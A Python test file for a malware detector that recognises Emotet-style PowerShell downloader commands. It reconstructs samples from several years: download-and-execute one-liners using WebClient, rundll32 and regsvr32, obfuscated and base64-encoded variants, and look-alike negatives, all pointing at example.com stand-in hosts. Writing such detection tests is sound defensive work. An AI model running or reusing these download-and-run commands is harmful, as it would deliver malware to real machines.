"""Emotet's command over its years, and commands that are not Emotet's. Texts of our own after the published descriptions."""

from __future__ import annotations

from base64 import b64encode

import pytest

from mimawari.detectors.marks.downloader import commands, emotet_grammar
from mimawari.detectors.marks.emotet_forms import Owner

SITES = [f"http://s{at}.example.com/wp-content/a{at}9/" for at in range(5)]
LIBRARY = "C:\\ProgramData\\"
YEARS = {
    "2017": (
        "$w = new-object System.Net.WebClient;$r = new-object random;$u = '" + ",".join(SITES) + "'.Split(',');"
        "$n = $r.next(1, 65536);$p = $env:temp + '\\' + $n + '.exe';foreach($x in $u){try{$w.DownloadFile($x.ToString(), $p);"
        "Start-Process $p;break;}catch{write-host $_.Exception.Message;}}",
        None, ("P1",),
    ),
    "2018-11": (
        "$b=new-object Net.WebClient;$c='" + "@".join(SITES) + "'.Split('@');$d = '474';$e=$env:public+'\\'+$d+'.exe';"
        "foreach($f in $c){try{$b.DownloadFile($f, $e);Invoke-Item $e;break;}catch{}}",
        None, ("P1",),
    ),
    "2018-12": (
        "$a='" + "@".join(SITES) + "'.Split('@');$b=([System.IO.Path]::GetTempPath()+'\\zPK.exe');"
        "$c=New-Object -com 'msxml2.xmlhttp';$d=New-Object -com 'adodb.stream';foreach($e in $a){"
        "try{$c.open('GET',$e,0);$c.send();If($c.Status -eq 200){$d.open();"
        "$d.type=1;$d.write($c.responseBody);$d.savetofile($b);Start-Process $b;break;}}catch{}}",
        None, ("P1",),
    ),
    "2022-01": (
        "$path='C:\\Users\\Public\\Documents\\ssd.dll';" + "".join(f"$url{at}='{one}';" for at, one in enumerate(SITES)) +
        "$w=New-Object net.webclient;$urls=\"$url0,$url1,$url2,$url3,$url4\".split(\",\");foreach($u in $urls){try{"
        "$w.DownloadFile($u,$path);if((Get-Item $path).Length -ge 30000){[Diagnostics.Process];break;}}catch{}}Sleep -s 4;"
        "cmd /c C:\\Windows\\SysWow64\\rundll32.exe 'C:\\Users\\Public\\Documents\\ssd.dll',AnyString;",
        30000, ("P5",),
    ),
    "2020-08": (
        "$n = 'Nfd9nts';&('new-it'+'em') $env:userprofile\\Uflw5pa\\W18\\ -itemtype directory;"
        "$p=$env:userprofile+(('{0}Uflw5pa{0}W18{0}')-f [char]92)+$n+('.ex'+'e');$u='" + "*".join(SITES) + "'.\"s`plit\"([char]42);"
        "foreach($x in $u){try{$w.\"downLoad`F`iLe\"($x,$p);If ((.('Get-Item') $p).\"LeNG`Th\" -ge 28315) "
        "{([wmiclass]'win32_Process').\"cre`ate\"($p);break}}catch{}}",
        28315, ("P3",),
    ),
    "2021-01": (
        "$C=$HOME+(('TGzBsr8y7hTGz').\"rEP`laCE\"(('TGz'),[StRING][cHaR]92))+$Y+'.d'+'ll';"
        "$X=('" + "@".join(SITES).replace("http", "sg yw ah") + "').\"r`Eplace\"(('sg y'+'w ah'),"
        "([array]('sd','sw'),('h'+'tt'+'p'),'3d')[1]).\"s`pLIT\"($K + $Q + $O);foreach ($D in $X){try{"
        "$w.\"DOWnl`OaD`FI`lE\"($D, $C);If ((&('Ge'+'t-It'+'em') $C).\"lE`NgTH\" -ge 35441) "
        "{&('run'+'dll32') $C,('Control_RunD'+'LL').\"TOsT`RiNG\"();break}}catch{}}",
        35441, ("P4",),
    ),
    "2021-11": (
        '$s="' + ",".join(SITES) + '".Split(",");foreach($x in $s){$a=Get-Random;$t="' + LIBRARY + '"+$a+".dll";'
        'Invoke-WebRequest -Uri $x -OutFile $t;if(Test-Path $t){$f="rundll32.exe";$b=$t+",f"+$a;'
        'Start-Process $f -ArgumentList $b;break;}}',
        None, ("P5",),
    ),
    "2022-04": (
        '$ProgressPreference="SilentlyContinue";$links=(' + ",".join(f'"{one}"' for one in SITES) + ");foreach ($u in $links) "
        "{try {IWR $u -OutFile $env:TEMP/abcdefghij.klm;Regsvr32.exe $env:TEMP/abcdefghij.klm;break} catch { }}",
        None, ("P6",),
    ),
}  # fmt: skip

MIRRORS = (
    "foreach($m in 'https://a.example.jp/x.msi,https://b.example.jp/x.msi,https://c.example.jp/x.msi'.Split(',')){try{"
    "$w.DownloadFile($m,$env:temp+'/x.msi');if((gi $p).length -ge 20000){Start-Process $p;break}}catch{}}"
)


@pytest.mark.parametrize("year", YEARS)
def test_each_year_is_read(year: str) -> None:
    text, least, era = YEARS[year]
    found = emotet_grammar(text)
    assert found
    assert [one.rstrip("/") for one in found.addresses] == [one.rstrip("/") for one in SITES]
    assert (found.least, found.era) == (least, era)
    assert found.owner is (Owner.LIKELY if year == "2017" else Owner.EMOTET)


@pytest.mark.parametrize("year", YEARS)
def test_out_of_base64_with_a_separator_that_nobody_names(year: str) -> None:
    packed = b64encode(YEARS[year][0].encode("utf-16-le")).decode("ascii")
    strewn = "0x8ab".join(packed[at : at + 5] for at in range(0, len(packed), 5))
    assert any(emotet_grammar(command) for command in commands(["owershell -enco " + strewn]))


@pytest.mark.parametrize(
    "text",
    [
        MIRRORS,
        "$u='http://a.example.com/a1/';try{$w.DownloadFile($u,$env:temp+'/1.exe');Start-Process ($env:temp+'/1.exe')}catch{}",
        "foreach($s in 'a.example.jp','b.example.jp'){Test-Connection $s}",
        "",
        "'" * 70_000,
    ],
)
def test_others_are_not(text: str) -> None:
    assert emotet_grammar(text) is None
